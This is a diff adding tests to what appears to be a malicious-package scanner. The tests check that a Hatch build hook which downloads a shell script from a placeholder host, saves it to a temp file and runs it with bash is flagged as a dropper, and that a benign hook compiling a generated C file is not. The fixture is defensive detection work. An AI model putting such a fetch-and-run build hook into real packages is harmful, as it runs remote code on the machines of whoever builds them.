@@ -564,6 +564,52 @@ def test_build_hook_benign_undeclared(tmp_path: Path, scanner: Scanner) -> None:
     assert not any(f.context is not None and f.context.value == "install" for f in result.findings)
 
 
+HATCH = (
+    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
+    "[tool.hatch.build.hooks.custom]\n"
+)
+TEMP_FILE_HOOK = """import os, subprocess, tempfile
+import requests
+
+
+class Hook:
+    def initialize(self, version, build_data):
+        {make}
+        subprocess.run(["{program}", path], check=True)
+"""
+
+
+@pytest.mark.parametrize(
+    "make",
+    [
+        'data = requests.get("https://cdn.example.invalid/prep.sh").content\n'
+        '        fd, path = tempfile.mkstemp(suffix=".sh")\n        os.write(fd, data)\n        os.close(fd)',
+        'handle = tempfile.NamedTemporaryFile(suffix=".sh", delete=False)\n'
+        '        handle.write(requests.get("https://cdn.example.invalid/prep.sh").content)\n'
+        "        path = handle.name\n        handle.close()",
+    ],
+    ids=["mkstemp-os-write", "named-temporary-file"],
+)
+def test_build_hook_that_runs_a_downloaded_temp_file_is_a_dropper(
+    tmp_path: Path, scanner: Scanner, make: str
+) -> None:
+    hook = TEMP_FILE_HOOK.format(make=make, program="bash")
+    files = {"pyproject.toml": HATCH, "hatch_build.py": hook}
+    result = scan(write_sdist(tmp_path, files, setup_py=NO_SETUP), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_build_hook_benign_twin_compiles_a_generated_temp_file(tmp_path: Path, scanner: Scanner) -> None:
+    make = (
+        'fd, path = tempfile.mkstemp(suffix=".c")\n'
+        '        os.write(fd, b"int main(void) { return 0; }")\n        os.close(fd)'
+    )
+    files = {"pyproject.toml": HATCH, "hatch_build.py": TEMP_FILE_HOOK.format(make=make, program="cc")}
+    result = scan(write_sdist(tmp_path, files, setup_py=NO_SETUP), scanner)
+    assert result.verdict is not Verdict.MALICIOUS, result.findings
+    assert not hits(result, "download-exec")
+
+
 # ---- the verdict on typed bases ------------------------------------------------------------------
 def test_decide_metadata_high_plus_code_high_is_malicious(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {"pyproject.toml": BUILD_FROM_URL}), scanner)
